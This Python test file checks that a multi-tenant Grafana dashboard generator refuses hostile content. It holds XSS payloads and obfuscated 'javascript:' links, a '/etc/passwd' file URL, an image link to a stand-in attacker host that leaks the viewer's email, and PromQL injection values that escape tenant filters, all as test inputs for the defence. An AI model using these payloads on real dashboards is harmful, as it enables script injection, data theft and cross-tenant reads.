"""Dashboards: those of a tenant run nothing, send nothing, and show nothing of another tenant.

What people do in Grafana, such as public links, snapshots and permissions, does not apply: varve writes files that
Grafana provisions, and calls no API.
"""

import json
import re
from collections.abc import Iterable, Mapping
from itertools import product
from typing import Any, Final

import pytest

from tests.defences.attack import (
    MARK,
    Attack,
    Files,
    each,
    goes_through_without,
    has_a_twin,
    instead,
    is_refused,
    repository,
    together,
    without,
)
from tests.defences.loose import open_schemas
from tests.defences.placing import DASHBOARD, dashboard, listed
from tests.defences.volley import GRAFANA, Volley, are_refused, go_through_without, have_a_twin, unproven
from varve import pipeline
from varve.check.dashboard import classic as dashboards
from varve.check.dashboard import granted, panel, text
from varve.emit.grafana import raw, scope, value
from varve.language.grafana import interpolation
from varve.language.grafana.uid import uid

unread: Final = together(without(text, "check"), unproven)


def panels(parts: Iterable[str]) -> Files:
    """A panel for each text, with its own id."""
    return dashboard(f'"panels": [{listed(f"""{{"id": {number}, {each}}}""" for number, each in enumerate(parts, 1))}]')


def _marked(texts: Iterable[str]) -> list[str]:
    return [MARK + json.dumps(each) for each in texts]


# Texts that could be run, and links to something other than a page

SCRIPTS: Final = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "a picture": "<img src=x onerror=alert(1)>",
    "a drawing": "<svg/onload=alert(1)>",
    "a frame": "<iframe src=https://bank.example>",
    "a frame with a text": '<iframe srcdoc="<b>a</b>">',
    "an object": "<object data=x>",
    "an embedded page": "<embed src=x>",
    "a form": "<form action=https://bank.example>",
    "a style": "<style>@import '//bank.example'</style>",
    "another page at once": "<meta http-equiv=refresh content=0>",
    "a base": "<base href=//bank.example>",
    "a link of a page": "<link rel=stylesheet href=x>",
    "a formula": "<math href=javascript:alert(1)>",
    "a comment": "<!-- a -->",
    "an element of no kind": "<x-y onclick=alert(1)>",
    "a link to a program": "[a](javascript:alert(1))",
    "a link to a program, behind a tab": "[a](java\tscript:alert(1))",
    "a link to a program, by an entity": "[a](java&#115;cript:alert(1))",
}
WORDS: Final = ("1 < 2, and 3 > 2", "[a](https://acme.example/a:b)", "JavaScript is a language", "&lt;b&gt;")
LINKS: Final = {
    "a program": "javascript:alert(1)",
    "a program in capitals": "JaVaScRiPt:alert(1)",
    "a program behind a blank": " javascript:alert(1)",
    "a program around an end of line": "java\nscript:alert(1)",
    "another program": "vbscript:a",
    "a page as data": "data:text/html,a",
}
ELSEWHERE: Final = {
    "a file": "file:///etc/passwd",
    "another site, as a path": "//bank.example",
    "another site, behind a backslash": "/\\bank.example",
    "a scheme of no page": "ftp://bank.example",
    "a blob": "blob:https://bank.example/a",
    "a picture as data": "data:image/svg+xml,a",
    "a scheme in a variable": "${scheme}:alert(1)",
    "half of a scheme in a variable": "java${a}:alert(1)",
    "a scheme in an old variable": "[[scheme]]:alert(1)",
    "a letter": "mailto:a@bank.example",
}
PAGES: Final = ("https://acme.example/script:a", "/d/abc?var-a=b:c", "?a=b", "http://${host}:9090/")


def of_texts(texts: Iterable[str]) -> Files:
    return panels(f'"type": "text", "options": {{"mode": "markdown", "content": {each}}}' for each in _marked(texts))


def of_descriptions(texts: Iterable[str]) -> Files:
    return panels(f'"type": "stat", "description": {each}' for each in _marked(texts))


def of_links(urls: Iterable[str]) -> Files:
    links = listed(f'{{"type": "link", "title": "a", "url": {each}}}' for each in _marked(urls))
    return dashboard(f'"panels": [], "links": [{links}]')


def of_panels_links(urls: Iterable[str]) -> Files:
    return panels(f'"type": "stat", "links": [{{"title": "a", "url": {each}}}]' for each in _marked(urls))


def of_data_links(urls: Iterable[str]) -> Files:
    parts = (
        f'"type": "stat", "fieldConfig": {{"defaults": {{"links": [{{"url": {each}}}]}}}}' for each in _marked(urls)
    )
    return panels(parts)


def of_tables(urls: Iterable[str]) -> Files:
    return panels(f'"type": "table-old", "styles": [{{"link": true, "linkUrl": {each}}}]' for each in _marked(urls))


RUNS: Final = ("check/dashboard-script", SCRIPTS, WORDS)
PROGRAMS: Final = ("check/dashboard-script", LINKS, PAGES)
AWAY: Final = ("check/bad-dashboard-link", ELSEWHERE, PAGES)
LAID: Final = {
    "in a text": (of_texts, RUNS),
    "in a description": (of_descriptions, RUNS),
    "above a dashboard": (of_links, PROGRAMS),
    "on a panel": (of_panels_links, PROGRAMS),
    "on a value": (of_data_links, PROGRAMS),
    "above a dashboard, out of it": (of_links, AWAY),
    "on a panel, out of it": (of_panels_links, AWAY),
    "on a value, out of it": (of_data_links, AWAY),
    "in a table": (of_tables, AWAY),
}
VOLLEYS: Final = {
    f"{where}: {', '.join(texts)}": Volley(lay([*texts.values()]), code, lay(fine), unread, frozenset(texts.values()))
    for where, (lay, (code, texts, fine)) in LAID.items()
}

# Panels that are not part of Grafana

PLUGINS: Final = (
    "ae3e-plotly-panel",
    "marcusolsson-dynamictext-panel",
    "volkovlabs-form-panel",
    "news",
    "Text",
    "welcome",
)


def of_kinds(kinds: Iterable[str]) -> Files:
    return panels(f'"type": {each}' for each in _marked(kinds))


KINDS: Final = {
    f"panels of {', '.join(PLUGINS)}": Volley(
        of_kinds(PLUGINS),
        "check/unknown-panel",
        of_kinds(("text", "table")),
        together(without(granted, "_check_kind"), unproven),
        frozenset(PLUGINS),
    )
}
MANY: Final = {**VOLLEYS, **KINDS}


@pytest.mark.parametrize("volley", MANY.values(), ids=MANY)
def test_active_texts_links_and_panels_are_refused(volley: Volley) -> None:
    are_refused(volley)


@pytest.mark.parametrize("volley", MANY.values(), ids=MANY)
def test_harmless_texts_links_and_panels_are_built(volley: Volley) -> None:
    have_a_twin(volley)


@pytest.mark.parametrize("volley", MANY.values(), ids=MANY)
def test_without_the_defence_active_texts_would_be_written(volley: Volley) -> None:
    go_through_without(volley)


# One by one

wrapped: Final = instead(raw, "_KEPT", {"dashboard", *raw._KEPT})  # noqa: SLF001 - as it is
STAT: Final = '"type": "stat"'
ATTACKS: Final = {
    "a text in HTML": Attack(
        panels(['"type": "text", "options": {"mode": >>>"html", "content": "a"}']),
        "check/dashboard-script",
        panels(['"type": "text", "options": {"mode": "markdown", "content": "html"}']),
        unread,
        '"mode": "html"',
    ),
    "a text in HTML, as old dashboards say it": Attack(
        panels(['"type": "text", "mode": >>>"HTML", "content": "a"']),
        "check/dashboard-script",
        panels(['"type": "text", "mode": "markdown", "content": "a"']),
        unread,
        '"mode": "HTML"',
    ),
    "a button that sends a request": Attack(
        panels(
            ['"type": "canvas", "options": {"root": {"elements": [{"config": {>>>"api": {"endpoint": "/api/x"}}}]}}']
        ),
        "check/dashboard-action",
        panels(['"type": "canvas", "options": {"root": {"elements": [{"config": {"api": {}}}]}}']),
        unread,
        '"endpoint": "/api/x"',
    ),
    "an action of a field": Attack(
        panels([f'{STAT}, "fieldConfig": {{"defaults": {{"actions": [{{>>>"fetch": {{"url": "/api/x"}}}}]}}}}']),
        "check/dashboard-action",
        panels([f'{STAT}, "fieldConfig": {{"defaults": {{"actions": []}}}}']),
        unread,
        '"url": "/api/x"',
    ),
    "a picture that tells another host who looks": Attack(
        panels(['"type": "text", "options": {"content": >>>"![](https://evil.example/?${__user.email})"}']),
        "check/outside-content",
        panels(['"type": "text", "options": {"content": "![](/public/img/us.png)"}']),
        together(without(granted, "check"), unproven),
        "https://evil.example/?${__user.email}",
    ),
    "an alert of a panel": Attack(
        panels([f'{STAT}, >>>"alert": {{"notifications": [{{"uid": "of-the-bank"}}]}}']),
        "check/panel-alert",
        panels([f'{STAT}, "alert": null']),
        together(without(panel, "_check_kind"), unproven),
        "of-the-bank",
    ),
    "a panel of the library": Attack(
        panels([f'{STAT}, >>>"libraryPanel": {{"uid": "of-the-bank"}}']),
        "check/library-panel",
        panels([f'{STAT}, "title": "libraryPanel"']),
        together(without(panel, "_check_kind"), unproven),
        "of-the-bank",
    ),
    "logs": Attack(
        panels(['"type": "logs", "datasource": >>>{"type": "loki", "uid": "of-the-bank"}']),
        "check/foreign-data-source",
        panels(['"type": "logs", "datasource": {"type": "prometheus", "uid": "of-the-bank"}']),
        together(without(panel, "check"), instead(raw, "_source", lambda source: source), unproven),
        "of-the-bank",
    ),
    "a data source that passes for an expression": Attack(
        panels(
            [f'{STAT}, "targets": [{{"expr": "up", "datasource": >>>{{"type": "__expr__", "uid": "of-the-bank"}}}}]']
        ),
        "check/foreign-data-source",
        panels(
            [f'{STAT}, "targets": [{{"expression": "$A", "datasource": {{"type": "__expr__", "uid": "__expr__"}}}}]']
        ),
        together(without(panel, "check"), instead(raw, "_source", lambda source: source), unproven),
        "of-the-bank",
    ),
    "a data source of a variable": Attack(
        dashboard('"panels": [], "templating": {"list": [{"name": "ds", "type": "datasource", "query": >>>"loki"}]}'),
        "check/foreign-data-source",
        dashboard(
            '"panels": [], "templating": {"list": [{"name": "ds", "type": "datasource", "query": "prometheus"}]}'
        ),
        together(
            without(panel, "check"),
            instead(raw, "_variables", lambda document: document["templating"]["list"]),
            unproven,
        ),
        '"query": "loki"',
    ),
    "a tag of another tenant": Attack(
        dashboard('"panels": [], "tags": [>>>"tenant:bank"]'),
        "check/reserved-tag",
        dashboard('"panels": [], "tags": ["tenant-bank"]'),
        together(without(dashboards, "_check_tags"), unproven),
        "tenant:bank",
    ),
    "a variable in the place of varve's own": Attack(
        dashboard(
            '"panels": [], "templating": {"list": [{"name": >>>"datasource", "type": "custom", "query": "of-a-bank"}]}'
        ),
        "check/repeated-variable",
        dashboard(
            '"panels": [], "templating": {"list": [{"name": "datasources", "type": "custom", "query": "of-a-bank"}]}'
        ),
        together(instead(dashboards, "_check_variables", lambda *_: frozenset()), unproven),
        '"query": "of-a-bank"',
    ),
    "a variable of no kind, which nothing keeps to the tenant": Attack(
        dashboard(
            '"panels": [], "templating": {"list": [{"name": "job", "type": >>>"Query", "query": "label_values(job)"}]}'
        ),
        "check/not-a-choice",
        dashboard(
            '"panels": [], "templating": {"list": [{"name": "job", "type": "query", "query": "label_values(job)"}]}'
        ),
        together(open_schemas, unproven),
        '"query": "label_values(job)"',
    ),
    "a dashboard that is wrapped, with the folder of another": Attack(
        {**GRAFANA, DASHBOARD: '{>>>"dashboard": {"title": "A"}, "title": "A", "schemaVersion": 39, "panels": []}\n'},
        "check/not-a-classic-dashboard",
        {**GRAFANA, DASHBOARD: '{"folderUid": "of-the-bank", "title": "A", "schemaVersion": 39, "panels": []}\n'},
        together(instead(dashboards, "_is_classic", lambda *_: True), wrapped, unproven),
        '"dashboard"',
    ),
    "a constant that runs": Attack(
        dashboard(
            '"__inputs": [{"name": "VAR_A", "type": "constant", "value": "<script>a</script>"}],'
            ' "panels": [], "description": >>>"${VAR_A}"'
        ),
        "check/dashboard-script",
        dashboard(
            '"__inputs": [{"name": "VAR_A", "type": "constant", "value": "script"}],'
            ' "panels": [], "description": "${VAR_A}"'
        ),
        unread,
        "<script>",
    ),
}


@each(ATTACKS)
def test_the_attack_is_refused_and_reaches_no_artifact(attack: Attack) -> None:
    is_refused(attack)


@each(ATTACKS)
def test_its_benign_twin_is_built(attack: Attack) -> None:
    has_a_twin(attack)


@each(ATTACKS)
def test_without_the_defence_it_would_go_through(attack: Attack) -> None:
    goes_through_without(attack)


# Values of variables that would make a query read other tenants' series

HOSTILE: Final = "up) or sum(b"
ENDING: Final = '"} or up{b="'
unvalued: Final = together(without(value, "check"), unproven)


def held(expr: str, variable: str, more: str = "") -> Files:
    """A query, and the one variable in it; the mark is at the query if the variable has none."""
    target = f'{{"refId": "A", "expr": {"" if MARK in variable else MARK}{json.dumps(expr)}}}'
    panel = f'{{"id": 1, "type": "stat", "targets": [{target}]}}'
    return dashboard(f'"panels": [{panel}], "templating": {{"list": [{{"name": "x", {variable}}}]}}{more}')


VALUES: Final = {
    "a value of a list that closes the query": Attack(
        held("sum($x)", f'"type": "custom", "query": >>>"down,{HOSTILE}"'),
        "emit/foreign-value",
        held("sum($x)", '"type": "custom", "query": "down,up"'),
        unvalued,
        HOSTILE,
    ),
    "a constant that closes the query": Attack(
        held("sum($x)", f'"type": "constant", "query": >>>"{HOSTILE}"'),
        "emit/foreign-value",
        held("sum(${x}load1)", '"type": "constant", "query": "node_"'),
        unvalued,
        HOSTILE,
    ),
    "a textbox that ends a string": Attack(
        held('up{a="$x"}', f'"type": "textbox", "query": >>>{json.dumps(ENDING)}'),
        "emit/foreign-value",
        held('up{a="$x"}', '"type": "textbox", "query": "} or up{b="'),
        unvalued,
        json.dumps(ENDING),
    ),
    "a text that is shown, and pasted": Attack(
        held('up{a="${x:text}"}', f'"type": "custom", "query": >>>{json.dumps(ENDING + " : a")}'),
        "emit/foreign-value",
        held('up{a="${x}"}', f'"type": "custom", "query": {json.dumps(ENDING + " : a")}'),
        unvalued,
        json.dumps(ENDING)[:-1],
    ),
    "what is chosen when the dashboard is opened": Attack(
        held("sum($x)", f'"type": "query", "query": "label_values(up, job)", "current": {{"value": >>>"{HOSTILE}"}}'),
        "emit/foreign-value",
        held("sum($x)", '"type": "query", "query": "label_values(up, job)", "current": {"value": "up"}'),
        unvalued,
        HOSTILE,
    ),
    "what stands for all values": Attack(
        held("sum($x)", f'"type": "custom", "query": "up", "includeAll": true, "allValue": >>>"{HOSTILE}"'),
        "emit/foreign-value",
        held('up{job=~"$x"}', '"type": "custom", "query": "up", "includeAll": true, "allValue": ".*"'),
        unvalued,
        HOSTILE,
    ),
    "an interval that ends a range": Attack(
        held("rate(up[$x])", '"type": "interval", "query": >>>"5m,1m] or b[5m"'),
        "emit/foreign-value",
        held("rate(up[$x])", '"type": "interval", "query": "5m,1m,$__auto_interval_x"'),
        unvalued,
        "1m] or b[5m",
    ),
    "a name where a number is written": Attack(
        held("up > $x", '"type": "custom", "query": "1,2", "current": {"value": >>>"b"}'),
        "emit/foreign-value",
        held("up > $x", '"type": "custom", "query": "1,2", "current": {"value": "2"}'),
        unvalued,
        '"value": "b"',
    ),
    "an answer that is taken apart": Attack(
        held("sum($x)", '"type": "query", "query": "query_result(up)", "regex": >>>"/b=(.*)/"'),
        "emit/foreign-value",
        held("sum($x)", '"type": "query", "query": "query_result(up)", "regex": "/b=.([a-z_]+)/"'),
        unvalued,
        "/b=(.*)/",
    ),
    "several values that are read one by one": Attack(
        held("sum(${x:csv})", '"type": "custom", "query": "b,up", "multi": true'),
        "emit/foreign-value",
        held("sum by (${x:csv}) (up)", '"type": "custom", "query": "b,up", "multi": true'),
        unvalued,
        "${x:csv}",
    ),
    "a format that brings quotes": Attack(
        held('up{a="${x:doublequote}"}', '"type": "custom", "query": "} or up{b="'),
        "emit/foreign-value",
        held('up{a="${x:regex}"}', '"type": "custom", "query": "} or up{b="'),
        unvalued,
        "${x:doublequote}",
    ),
    "a value that names another variable": Attack(
        held('up{a="$x"}', '"type": "custom", "query": >>>"$__dashboard"', ', "description": "a"'),
        "emit/foreign-value",
        held('up{a="$x"}', '"type": "custom", "query": "$__interval"', ', "description": "a"'),
        unvalued,
        '"query": "$__dashboard"',
    ),
    "a filter that ends the selector": Attack(
        held(
            "up",
            f'"type": "adhoc", "filters": [{{"key": "a", "operator": "=", "value": >>>{json.dumps(ENDING)}}}]',
        ),
        "emit/foreign-value",
        held("up", '"type": "adhoc", "filters": [{"key": "a", "operator": "=", "value": "b.c"}]'),
        unvalued,
        json.dumps(ENDING),
    ),
    "a filter that takes the tenant's place": Attack(
        held("up", '"type": "adhoc", "filters": [{"key": >>>"tenant", "operator": "=", "value": "bank"}]'),
        "emit/foreign-value",
        held("up", '"type": "adhoc", "filters": [{"key": "owner", "operator": "=", "value": "bank"}]'),
        unvalued,
        '"value": "bank"',
    ),
    "a variable over the end of a string": Attack(
        held('up{a="${x:",b="}"}', '"type": "custom", "query": "a"'),
        "check/bad-query",
        held('up{a="${x}",b="}"}', '"type": "custom", "query": "a"'),
        together(instead(interpolation, "_UNSAFE_FORMAT", re.compile("(?!)")), unvalued),
        "${x:",
    ),
}


@each(VALUES)
def test_a_variable_value_that_would_reach_other_series_is_refused(attack: Attack) -> None:
    is_refused(attack)


@each(VALUES)
def test_a_harmless_variable_value_is_built(attack: Attack) -> None:
    has_a_twin(attack)


@each(VALUES)
def test_without_the_defence_the_value_would_reach_a_query(attack: Attack) -> None:
    goes_through_without(attack)


def test_a_scope_beside_a_query_would_take_the_tenants_place(monkeypatch: pytest.MonkeyPatch) -> None:
    """Grafana's server inserts filters into a query, and replaces an existing filter of the same label."""
    target = {"expr": "up", "adhocFilters": [{"key": "tenant", "operator": "equals", "value": "bank"}]}
    document = {"title": "A", "schemaVersion": 39, "panels": [{"id": 1, "type": "stat", "targets": [target]}]}
    assert "adhocFilters" not in made(document)
    unproven(monkeypatch)
    monkeypatch.setattr(scope, "_FILTERING", frozenset())
    assert "adhocFilters" in made(document)


# What only varve decides: a dashboard's identity, its folder, and its data sources

BANKS: Final = uid("production", "bank", "datasource")
SOURCES: Final[tuple[object, ...]] = (
    BANKS,
    {"uid": BANKS},
    {"type": "prometheus", "uid": BANKS},
    "${of_the_bank}",
    {"type": "prometheus", "uid": "$of_the_bank"},
    "default",
    "-- Default --x",
    None,
)


def dashboard_of(source: object) -> dict[str, Any]:
    """A dashboard that names one data source wherever it can, and much else that varve decides."""
    target = {"expr": "up", "datasource": source}
    stat = {"type": "stat", "datasource": source, "targets": [target], "scopedVars": {"datasource": {"value": BANKS}}}
    return {
        "id": 7,
        "uid": uid("production", "bank", "tenant"),
        "folderUid": uid("production", "bank", "folder"),
        "folderTitle": "Bank",
        "orgId": 1,
        "version": 99,
        "editable": True,
        "title": "Traffic",
        "schemaVersion": 39,
        "panels": [{"id": 1, **stat}, {"id": 2, "type": "row", "panels": [{"id": 3, **stat}], "datasource": source}],
        "annotations": {"list": [{"name": "a", "datasource": source, "expr": "up", "target": target}]},
        "templating": {
            "list": [
                {"name": "job", "type": "query", "query": "label_values(job)", "datasource": source},
                {"name": "filter", "type": "adhoc", "datasource": source},
                {"name": "of_the_bank", "type": "datasource", "query": "prometheus", "current": {"value": BANKS}},
            ]
        },
    }


def made(document: Mapping[str, Any]) -> str:
    build = pipeline.compile(repository({**GRAFANA, DASHBOARD: json.dumps(document)}))
    assert [each.message for each in build.diagnostics] == []
    return build.artifacts["build/production/tenants/acme/dashboards/raw/traffic.json"].data.decode()


@pytest.mark.parametrize("source", SOURCES, ids=json.dumps)
def test_a_dashboard_cannot_choose_its_identity_or_data_sources(source: object) -> None:
    text = made(dashboard_of(source))
    assert not [each for each in (BANKS, "of_the_bank", "Bank", uid("production", "bank", "tenant")) if each in text]
    assert json.loads(text)["uid"] == uid("production", "acme", "raw", "traffic")


def test_without_the_defence_a_dashboard_would_choose_them(monkeypatch: pytest.MonkeyPatch) -> None:
    unproven(monkeypatch)
    monkeypatch.setattr(raw, "_source", lambda source: source)
    monkeypatch.setattr(raw, "frame", lambda *_: {"tags": []})
    monkeypatch.setattr(raw, "_KEPT", frozenset({*raw._KEPT, "uid", "folderUid"}))  # noqa: SLF001 - as it is
    text = made(dashboard_of(BANKS))
    assert BANKS in text
    assert uid("production", "bank", "tenant") in text


def test_no_two_dashboards_have_the_same_uid() -> None:
    parts = ("a", "b", "a-b", "tenant", "service", "raw", "datasource")
    named = [*((kind, name) for kind, name in product(("raw", "service"), parts)), ("tenant",), ("datasource",)]
    found = [uid(environment, tenant, *each) for environment in parts for tenant in parts for each in named]
    assert len(set(found)) == len(found)
